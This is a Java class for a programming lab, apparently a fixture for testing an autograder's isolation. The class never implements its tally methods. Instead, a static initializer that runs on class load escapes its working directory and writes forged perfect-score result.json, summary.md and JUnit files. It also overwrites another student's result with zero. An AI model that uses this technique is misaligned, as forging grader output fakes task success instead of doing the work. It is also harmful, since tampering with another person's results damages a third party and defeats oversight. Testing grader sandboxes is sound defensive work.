package lab.tally;

import java.io.FileOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Attack: write the grader's reports before the grader does. The fork's working directory is
 * results/STUDENT/work/01-tally/CHECK, so the output directory is three levels up: write a perfect
 * result.json and summary.md there, a JUnit report that CI dashboards would pick up, and a
 * result.json for another student beside this one's output directory.
 */
public final class Tally {

    static {
        String out = System.getProperty("user.dir") + "/../../..";
        write(out + "/result.json", "{\"schema\":1,\"mode\":\"official\",\"score\":100,\"max\":100}");
        write(out + "/summary.md", "## Concurrency Lab: 100/100 points (official)\n");
        write(out + "/junit/TEST-forged.xml", "<testsuite name=\"tally\" tests=\"1\" failures=\"0\"><testcase name=\"all\"/></testsuite>");
        write(out + "/../another-student-result.json", "{\"score\":0}");
    }

    private static void write(String file, String content) {
        try (FileOutputStream stream = new FileOutputStream(file)) {
            stream.write(content.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            // Carry on with the next file.
        }
    }

    public Tally() {
    }

    public void add(int amount) {
        throw new UnsupportedOperationException("TODO: add the amount and remember it");
    }

    public int total() {
        throw new UnsupportedOperationException("TODO: return the total");
    }

    public List<Integer> history() {
        throw new UnsupportedOperationException("TODO: return a copy of the history");
    }
}
